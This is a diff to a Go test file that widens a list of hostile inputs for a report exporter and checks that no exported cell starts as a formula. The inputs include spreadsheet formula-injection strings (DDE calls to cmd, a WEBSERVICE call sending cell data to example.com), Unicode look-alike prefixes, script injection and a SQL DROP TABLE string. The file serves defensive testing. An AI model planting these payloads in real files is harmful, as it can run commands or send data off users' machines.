@@ -9,6 +9,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+	"unicode"
+	"unicode/utf8"
 
 	"losttrn/internal/local/exportgen"
 	"losttrn/internal/report"
@@ -19,7 +21,9 @@ import (
 // them for more than texts.
 var hostile = []string{`=HYPERLINK("http://example.com","x")`, `+1+1`, `-1+1`, `@SUM(1)`, "\t=1+1", "\r=1+1", `=cmd|' /C calc'!A0`, `'=1+1`,
 	`<script>alert(1)</script>`, `</t></is></c><c r="A1"><f>1+1</f></c>`, `]]><f>1</f>`, `https://example.com/x`, `mailto:x@example.com`,
-	`_x003D_1+1`, `_x005F_x003D_1`, "\x00\x01\x1b[31m", "\uFFFE", `"; DROP TABLE lookups; --`, `0012345`, `1e5`, `2026-11-22`, strings.Repeat("=x", 40_000)}
+	`_x003D_1+1`, `_x005F_x003D_1`, "＝1+1", "＠SUM(1)", "﹦1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff+1", "\v=1", "\f@x", "a;=1+1", "=DDE(\"cmd\";\"/C calc\";\"x\")",
+	`=WEBSERVICE("https://example.com/"&A1)`, `-2+3+cmd|' /C calc'!A0`, `http:\\\\example.com\\x`, `\\\\example.com\\share`, `www.example.com`, `javascript:alert(1)`,
+	`[x](https://example.com)`, `<a href="https://example.com">x</a>`, `&lt;script&gt;`, `{{template "x"}}`, "\x00\x01\x1b[31m", "\uFFFE", `"; DROP TABLE lookups; --`, `0012345`, `1e5`, `2026-11-22`, strings.Repeat("=x", 40_000)}
 
 // hostileTables are a day on which every text that a person can give is hostile.
 func hostileTables() tables {
@@ -43,6 +47,11 @@ func hostileTables() tables {
 	return contents
 }
 
+// invisible tells whether a rune shows nothing, so that a spreadsheet may look past it.
+func invisible(r rune) bool {
+	return unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r)
+}
+
 // TestNoTextBecomesMoreThanText in the workbook, the CSV files and the page.
 func TestNoTextBecomesMoreThanText(t *testing.T) {
 	dir, _, err := makeReport(t, hostileTables(), report.Options{})
@@ -56,7 +65,8 @@ func TestNoTextBecomesMoreThanText(t *testing.T) {
 		}
 		for _, row := range all {
 			for _, cell := range row {
-				if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) {
+				first, _ := utf8.DecodeRuneInString(strings.TrimLeftFunc(cell, invisible))
+				if cell != "" && (strings.ContainsRune("\t\r\n", rune(cell[0])) || strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫−", first)) {
 					t.Errorf("%s: a cell begins %.20q", name, cell)
 				}
 			}
